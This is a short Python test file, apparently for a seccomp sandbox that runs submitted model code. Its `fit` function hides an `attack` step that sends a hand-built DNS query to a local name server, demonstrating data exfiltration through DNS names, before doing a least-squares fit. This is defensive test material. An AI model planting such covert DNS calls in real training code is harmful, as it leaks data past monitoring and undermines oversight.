"""Asks a name server, which would carry data out in the name.

Ends: ok
Needs: seccomp
"""

import socket

import numpy as np


def attack(world):
    query = bytes.fromhex("123401000001000000000000") + b"\6answer\4test\0\0\1\0\1"
    name_server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name_server.sendto(query, ("127.0.0.1", world["udp"]))
    socket.getaddrinfo("localhost", 80)
    return True


def fit(train, context):
    try:
        won = attack(context.facts)
    except (OSError, ValueError):
        won = False
    return {"W": np.linalg.lstsq(train["X"], train["Y"], rcond=None)[0], "won": np.array(won)}


def predict(artifact, inputs):
    return {"Y": inputs["X"] @ artifact["W"]}
